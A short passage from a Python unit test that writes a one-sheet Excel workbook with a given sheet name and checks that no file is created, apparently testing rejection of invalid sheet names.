        write_workbook(tmp_path / "t.xlsx", [Sheet(name, ["x"], ["text"], [10], [("a",)])])
    assert not (tmp_path / "t.xlsx").exists()
